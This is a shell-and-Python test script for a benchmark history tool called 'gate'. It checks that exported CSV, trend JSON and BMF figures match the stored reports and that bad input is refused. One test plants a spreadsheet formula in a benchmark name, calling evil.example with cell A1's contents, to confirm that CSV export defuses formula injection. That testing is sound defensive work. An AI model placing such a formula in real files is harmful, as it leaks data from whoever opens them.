# gate record, then gate trend and gate export through the one loader
# (gate/report/load.h, REPORT_LOAD_RECORD): records of gate run reports
# (tests/golden/*.json and a real one), with and without --samples, and of
# gate compare reports give in the CSV, the trend JSON and BMF exactly the
# figures the stored reports hold, read here independently (python, from
# the notes themselves): each benchmark's top-level ratio, interval, level,
# min_effect, head's median, verdict, metric and unit, and the head samples
# change points are sought on. An empty --label is refused as gate record
# refuses it; a record the loader cannot read is skipped with a warning.
. "$(dirname "$0")/lib.sh"
R=$SCRATCH/repo
new_repo "$R"
root=$(pwd)
values() {
	awk -v k="$1" -v f="$2" 'BEGIN { srand(k); for (i = 0; i < 12; i++)
		printf "parse %.6f ms\nfmt %.6f ms\n", 100 * f * (1 + 0.01 * (rand() - 0.5)), 50 * (1 + 0.01 * (rand() - 0.5)) }'
}
i=0
for rep in plain advisory real error metrics noisy policy suite artifacts; do
	i=$((i + 1))
	echo "$i" >"$R/v"
	commit_all "$R" "commit $i, \"$rep\""
	f=$root/tests/golden/$rep.json
	[ "$rep" = real ] && f=$root/tests/data/gate-run-report.json
	gate_run 0 -C "$R" record --label s --samples --commit HEAD "$f"
	gate_run 0 -C "$R" record --label n --commit HEAD "$f"
	values $((i * 31)) 1 >"$SCRATCH/old.txt"
	values $((i * 31 + 7)) 1.05 >"$SCRATCH/new.txt"
	"$GATE" compare "$SCRATCH/old.txt" "$SCRATCH/new.txt" --json "$SCRATCH/c.json" >/dev/null 2>&1
	[ -s "$SCRATCH/c.json" ] || fail "gate compare wrote no report"
	gate_run 0 -C "$R" record --label c --commit HEAD "$SCRATCH/c.json"
	if [ $((i % 2)) -eq 0 ]; then
		gate_run 0 -C "$R" record --label m --commit HEAD "$SCRATCH/c.json"
	else
		gate_run 0 -C "$R" record --label m --samples --commit HEAD "$f"
	fi
done
git -C "$R" log --format=%H >"$SCRATCH/commits"
for c in $(cat "$SCRATCH/commits"); do
	git -C "$R" notes --ref=gate show "$c" >"$SCRATCH/note.$c"
done
for l in s n c m; do
	gate_run 0 -C "$R" export --format csv --label "$l" --output "$SCRATCH/$l.csv"
	gate_run 0 -C "$R" export --format bencher --label "$l" --output "$SCRATCH/$l.bmf"
	"$GATE" -C "$R" trend --label "$l" --json "$SCRATCH/$l.trend" >"$OUT" 2>"$ERR"
	[ $? -le 1 ] || fail "gate trend --label $l failed"
	[ ! -s "$ERR" ] || fail "gate trend --label $l warned"
	/usr/bin/python3 - "$SCRATCH" "$l" <<'PY' || fail "label $l: figures differ from the stored reports'"
import csv, json, math, os, sys
scratch, label = sys.argv[1], sys.argv[2]
commits = open(os.path.join(scratch, "commits")).read().split()[::-1]
records = []  # (commit, report), oldest first, the newest per commit
for c in commits:
    path = os.path.join(scratch, "note." + c)
    if not os.path.exists(path):
        continue
    mine = [json.loads(x) for x in open(path) if x.strip()]
    mine = [x for x in mine if x["label"] == label]
    if mine:
        records.append((c, mine[-1]["report"]))
assert len(records) == 9, len(records)

def fig(b, *path):
    for k in path:
        b = b.get(k) if isinstance(b, dict) else None
    return b if isinstance(b, (int, float)) and not isinstance(b, bool) else None

def head_median(b):
    m = fig(b, "head", "median")
    return m if m is not None else fig(b, "new", "median")

def head_values(b):
    if isinstance(b.get("samples"), list):
        v = [s.get("head") for s in b["samples"]]
    else:
        v = (b.get("new") or {}).get("values") or []
    return [x for x in v if isinstance(x, (int, float)) and x > 0 and math.isfinite(x)]

def floor(rep, b):
    # a run report has a floor per benchmark; gate compare one for all cases
    f = fig(b, "min_effect")
    return f if f is not None or rep.get("command") != "compare" else fig(rep, "protocol", "min_effect")

def cell(v):
    return "" if v is None else "%.9g" % v

def identical(b):
    # passed unmeasured as an identical build: ratio 1 by construction
    a = b.get("artifacts") or {}
    return a.get("identical") is True and a.get("measured") is False

rows = list(csv.DictReader(open(os.path.join(scratch, label + ".csv"))))
want = [(c, rep, b) for c, rep in records for b in rep["benchmarks"]]
assert len(rows) == len(want), (len(rows), len(want))
for row, (c, rep, b) in zip(rows, want):
    assert row["commit"] == c and row["benchmark"] == b["name"], (row, c)
    same = identical(b)
    exp = {"metric": b.get("metric", ""), "unit": b["unit"], "verdict": b["verdict"],
           "ratio": "1" if same else cell(fig(b, "ratio", "estimate")),
           "low": "1" if same else cell(fig(b, "ratio", "low")),
           "high": "1" if same else cell(fig(b, "ratio", "high")), "level": cell(fig(b, "ratio", "level")),
           "floor": cell(floor(rep, b)), "head_median": cell(head_median(b)),
           "identical": "1" if same else "0"}
    got = {k: row[k] for k in exp}
    assert got == exp, (b["name"], got, exp)

def close(a, b):
    return (a is None and b is None) or (a is not None and b is not None and
            abs(a - b) <= 1e-12 * max(1, abs(b)))

trend = json.load(open(os.path.join(scratch, label + ".trend")))
for tb in trend["benchmarks"]:
    # every measured step, and every identical build as a step of exactly
    # no change (never dropped from the chain)
    keep = lambda b: (fig(b, "ratio", "estimate") or 0) > 0 or identical(b)
    steps = [(c, b) for c, rep in records for b in rep["benchmarks"]
             if b["name"] == tb["name"] and keep(b)]
    floors = [floor(rep, b) for c, rep in records for b in rep["benchmarks"]
              if b["name"] == tb["name"] and keep(b)]
    assert len(steps) == len(tb["steps"]), (tb["name"], len(steps), len(tb["steps"]))
    for s, (c, b) in zip(tb["steps"], steps):
        assert s["commit"] == c and s["verdict"] == b["verdict"], (s, c)
        if identical(b):
            assert s.get("identical") is True, s
            assert s["ratio"] == s["ratio_low"] == s["ratio_high"] == 1, s
            continue
        assert "identical" not in s, s
        for k, path in (("ratio", "estimate"), ("ratio_low", "low"),
                        ("ratio_high", "high"), ("level", "level")):
            assert close(s[k], fig(b, "ratio", path)), (tb["name"], k, s[k])
    floors = [f for f in floors if f is not None]
    assert close(tb["floor"], floors[-1] if floors and floors[-1] > 0 else 0.05), tb["floor"]
    with_samples = sum(1 for c, b in steps if len(head_values(b)) >= 3)
    assert tb["change_point_records"] == with_samples, (tb["name"], tb["change_point_records"], with_samples)
    if steps:
        assert tb["metric"] == steps[-1][1].get("metric", "") and tb["unit"] == steps[-1][1]["unit"]

bmf = json.load(open(os.path.join(scratch, label + ".bmf")))
last = [b for b in records[-1][1]["benchmarks"] if (fig(b, "ratio", "estimate") or 0) > 0 or identical(b)]
assert sorted(bmf) == sorted(b["name"] for b in last), (sorted(bmf), last)
for b in last:
    assert bmf[b["name"]]["ratio"]["value"] == (1 if identical(b) else fig(b, "ratio", "estimate")), b["name"]
PY
done
# records with samples: change points were sought on head's values
/usr/bin/python3 -c 'import json, sys; d = json.load(open(sys.argv[1])); assert any(b["change_point_records"] >= 3 for b in d["benchmarks"]), d' "$SCRATCH/s.trend" ||
	fail "no record kept its samples for trend"
/usr/bin/python3 -c 'import json, sys; d = json.load(open(sys.argv[1])); assert all(b["change_point_records"] == 0 for b in d["benchmarks"]), d' "$SCRATCH/n.trend" ||
	fail "records without --samples gave trend samples"
# an empty --label: refused by every history command, as gate record does
for cmd in "trend" "export --format csv" "record --last"; do
	# shellcheck disable=SC2086 # cmd is a command and its options
	gate_run 3 -C "$R" $cmd --label ""
	expect_in "$ERR" "--label needs a name, not \"\""
	expect_in "$ERR" "usage: gate"
done
# a report the loader cannot read is not recorded ...
sed 's/"schema":[[:space:]]*1,/"schema": 2,/' "$root/tests/golden/plain.json" >"$SCRATCH/s2.json"
gate_run 3 -C "$R" record --label s --commit HEAD "$SCRATCH/s2.json"
expect_in "$ERR" "report schema 2 is not one this gate reads"
# ... and one already in the notes (an older or newer gate's) is skipped
# with a warning, the others read
git -C "$R" notes --ref=gate append -m "{\"gate_record\": 1, \"label\": \"s\", \"report\": $(tr -d '\n' <"$SCRATCH/s2.json")}" HEAD~1
gate_run 0 -C "$R" export --format csv --label s
expect_in "$ERR" "warning: the record of \"s\" on $(git -C "$R" rev-parse --short=12 HEAD~1): report schema 2"
expect_in "$ERR" "skipped"
[ "$(wc -l <"$OUT")" -eq "$(wc -l <"$SCRATCH/s.csv")" ] ||
	fail "a skipped record changed the other records' rows"
# issue 26 item 5: export keeps every record: a commit recorded twice
# gives both records' rows (the man page's promise), trend keeps one step
n0=$(wc -l <"$OUT")
gate_run 0 -C "$R" record --label s --commit HEAD "$root/tests/golden/plain.json"
gate_run 0 -C "$R" export --format csv --label s
nplain=$(json_get "$root/tests/golden/plain.json" 'len(d["benchmarks"])')
[ "$(wc -l <"$OUT")" -eq $((n0 + nplain)) ] ||
	fail "a second record on HEAD gave $(wc -l <"$OUT") rows, want $((n0 + nplain))"
# the artifacts report's identical build is in the BMF, as ratio 1
[ "$(json_get "$SCRATCH/s.bmf" 'd["docs"]["ratio"]["value"]')" = 1 ] ||
	fail "the identical build is not in the BMF"
# issue 27: garbage in the notes is counted and said, never silent
git -C "$R" notes --ref=gate append -m "not json at all" HEAD~2
git -C "$R" notes --ref=gate append -m '{"something": "else"}' HEAD~2
gate_run 0 -C "$R" export --format csv --label s
expect_in "$ERR" "2 lines of gate's notes are not a gate record"
# issue 27: a name a spreadsheet would run is a plain text cell
python3 - "$root/tests/golden/plain.json" "$SCRATCH/evil.json" <<'PY'
import json, sys
d = json.load(open(sys.argv[1]))
d["benchmarks"][0]["name"] = '=HYPERLINK("http://evil.example/?x="&A1,"ok")'
json.dump(d, open(sys.argv[2], "w"))
PY
gate_run 0 -C "$R" record --label e --commit HEAD "$SCRATCH/evil.json"
gate_run 0 -C "$R" export --format csv --label e
python3 - "$OUT" <<'PY' || fail "the CSV has a formula cell: $(cat "$OUT")"
import csv, sys
rows = list(csv.reader(open(sys.argv[1])))
cells = [c for r in rows[1:] for c in r]
assert any(c.startswith("'=HYPERLINK(") for c in cells), cells
assert not any(c[:1] in ("=", "+", "@") for c in cells), cells
assert not any(c[:1] == "-" and not c[1:2].isdigit() for c in cells), cells
PY
# issue 26 item 5: one run's report as CSV, no history needed
gate_run 0 export --format csv --report "$root/tests/golden/metrics.json"
[ "$(wc -l <"$OUT")" -eq $((1 + $(json_get "$root/tests/golden/metrics.json" 'len(d["benchmarks"])'))) ] ||
	fail "export --report gave $(wc -l <"$OUT") lines"
expect_in "$OUT" ",encode,"
gate_run 3 export --format bencher --report "$root/tests/golden/metrics.json"
exit 0
